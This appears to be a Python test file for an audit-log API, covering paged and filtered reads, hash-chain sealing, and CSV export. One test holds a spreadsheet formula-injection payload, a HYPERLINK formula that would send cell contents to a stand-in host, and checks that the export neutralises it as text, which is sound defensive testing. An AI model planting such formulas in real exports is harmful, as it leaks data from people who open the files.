"""A tenant reads its own audit log, page by page and as CSV."""

from __future__ import annotations

import csv
import io
from datetime import timedelta
from typing import TYPE_CHECKING

from candela.audit.record import Actor, record
from candela.audit.sealing import seal
from candela.audit.verifying import verify

if TYPE_CHECKING:
    from tests.fixtures.api import Api, Person

# What a spreadsheet would run, were it not told that it is text.
FORMULA = '=HYPERLINK("http://x.example/"&A1)'


def write(api: Api, person: Person, *actions: str, agent: str = "tests") -> None:
    for action in actions:
        with person.desk.session() as session:
            actor = Actor(name="me", address="203.0.113.9", user_agent=agent)
            record(session, actor, action, "bot", "7", clock=api.clock, detail={"n": "0.10"})
        api.clock.at += timedelta(seconds=1)


def test_log_when_read_in_pages_then_newest_first_and_each_entry_once(
    api: Api, person: Person
) -> None:
    write(api, person, *(f"bot.do{number}" for number in range(5)))
    write(api, api.person("other@example.com"), "bot.foreign")
    seen: list[str] = []
    path: str | None = "/audit?limit=2"
    while path is not None:
        page = person.get(path).json()
        seen += [item["action"] for item in page["items"]]
        cursor = page["next_cursor"]
        path = None if cursor is None else f"/audit?limit=2&cursor={cursor}"
    assert seen == [f"bot.do{number}" for number in (4, 3, 2, 1, 0)]


def test_log_when_filtered_then_by_action_entity_and_span(api: Api, person: Person) -> None:
    write(api, person, "bot.start", "bots.other", "key.add")
    got = person.get("/audit?action=bot").json()["items"]
    assert [item["action"] for item in got] == ["bot.start"]
    assert got[0]["detail"] == {"n": "0.10"}
    assert person.get("/audit?entity=key").json()["items"] == []
    since = (api.clock.at - timedelta(seconds=2)).isoformat().replace("+", "%2B")
    got = person.get(f"/audit?since={since}").json()["items"]
    assert [item["action"] for item in got] == ["key.add", "bots.other"]
    assert person.get("/audit?since=2026-01-01T00:00:00").status_code == 422


def test_log_when_sealed_and_proved_then_says_how_far(api: Api, person: Person) -> None:
    write(api, person, "bot.start", "bot.stop")
    page = person.get("/audit").json()
    assert page["chain_verified_up_to"] is None
    assert {item["chain_n"] for item in page["items"]} == {None}
    seal(api.database, api.clock)
    verify(api.database, api.clock)
    page = person.get("/audit").json()
    assert [item["chain_n"] for item in page["items"]] == [2, 1]
    assert page["chain_verified_up_to"]["chain_n"] == 2
    assert page["chain_verified_up_to"]["is_whole"] is True


def test_sheet_when_a_cell_looks_like_a_formula_then_is_text(api: Api, person: Person) -> None:
    """S32: formula injection."""
    write(api, person, "bot.start", agent=FORMULA)
    answer = person.get("/audit.csv")
    assert answer.headers["content-type"].startswith("text/csv")
    (row,) = csv.DictReader(io.StringIO(answer.text))
    assert row["user_agent"] == f"'{FORMULA}"
    assert row["action"] == "bot.start"
